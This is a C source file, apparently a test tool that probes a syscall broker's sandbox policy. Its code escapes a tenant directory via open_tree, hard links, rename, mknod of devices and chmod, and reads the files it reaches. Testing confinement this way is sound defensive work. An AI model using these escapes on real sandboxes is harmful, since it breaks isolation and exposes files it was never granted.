/* broker_escape: ways out of policies/broker.lua that go around its openat handler.
** Usage: broker_escape TRICK ARG...   (run with the tenant directory as the cwd, as the
** broker sets it)
**   open_tree PATH        open_tree(2) (in @file-system) hands out an O_PATH descriptor of
**                         PATH, anywhere; prints what it names
**   link PATH             link(2) PATH into the tenant as "stolen", then open "stolen" through
**                         the broker and print it (root, or a file the user may write)
**   mknod b|c MAJ MIN     mknod(2) a device "dev" in the tenant, open it through the broker
**                         and print what it reads (root: CAP_MKNOD), e.g. c 1 11 (/dev/kmsg)
**   rename PATH           rename(2) PATH into the tenant as "moved", open it through the broker
**   chmod PATH MODE       change a file outside the tenant (no open needed)
*/
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#ifndef OPEN_TREE_CLOEXEC
#define OPEN_TREE_CLOEXEC O_CLOEXEC
#endif

static int show(const char *name) {
  char buf[256];
  int fd = open(name, O_RDONLY);        /* the broker's openat handler decides this */
  ssize_t n;
  if (fd < 0) { printf("open %s through the broker: %s\n", name, strerror(errno)); return 1; }
  n = read(fd, buf, sizeof buf - 1);
  if (n < 0) { printf("read: %s\n", strerror(errno)); return 1; }
  buf[n] = 0;
  printf("open %s through the broker: ok, it reads:\n%s\n", name, buf);
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  if (!strcmp(argv[1], "open_tree")) {
    char link[64], target[256];
    struct stat st;
    long fd = syscall(SYS_open_tree, AT_FDCWD, argv[2], OPEN_TREE_CLOEXEC);
    ssize_t n;
    if (fd < 0) { printf("open_tree %s: %s\n", argv[2], strerror(errno)); return 1; }
    snprintf(link, sizeof link, "/proc/self/fd/%ld", fd);
    n = readlink(link, target, sizeof target - 1);
    target[n > 0 ? n : 0] = 0;
    fstat((int)fd, &st);
    printf("open_tree %s: descriptor %ld -> %s (inode %lu, mode %o, size %ld)\n", argv[2], fd,
           target, (unsigned long)st.st_ino, st.st_mode, (long)st.st_size);
    return 0;
  }
  if (!strcmp(argv[1], "link")) {
    unlink("stolen");
    if (link(argv[2], "stolen") != 0) { printf("link %s: %s\n", argv[2], strerror(errno)); return 1; }
    printf("link %s -> stolen: ok\n", argv[2]);
    return show("stolen");
  }
  if (!strcmp(argv[1], "rename")) {
    if (rename(argv[2], "moved") != 0) { printf("rename %s: %s\n", argv[2], strerror(errno)); return 1; }
    printf("rename %s -> moved: ok\n", argv[2]);
    return show("moved");
  }
  if (!strcmp(argv[1], "chmod") && argc > 3) {
    if (chmod(argv[2], (mode_t)strtol(argv[3], NULL, 8)) != 0) { printf("chmod: %s\n", strerror(errno)); return 1; }
    printf("chmod %s %s: ok\n", argv[2], argv[3]);
    return 0;
  }
  if (!strcmp(argv[1], "mknod") && argc > 4) {
    char buf[512];
    int fd;
    ssize_t n;
    unlink("dev");
    if (mknod("dev", (argv[2][0] == 'b' ? S_IFBLK : S_IFCHR) | 0600,
              makedev(atoi(argv[3]), atoi(argv[4]))) != 0) {
      printf("mknod: %s\n", strerror(errno));
      return 1;
    }
    printf("mknod dev %s %s:%s: ok\n", argv[2], argv[3], argv[4]);
    fd = open("dev", O_RDONLY | O_NONBLOCK);
    if (fd < 0) { printf("open dev through the broker: %s\n", strerror(errno)); return 1; }
    n = read(fd, buf, sizeof buf - 1);
    if (n < 0) { printf("open dev through the broker: ok; read: %s\n", strerror(errno)); return 1; }
    buf[n] = 0;
    printf("open dev through the broker: ok, it reads:\n%s\n", buf);
    return 0;
  }
  return 2;
}
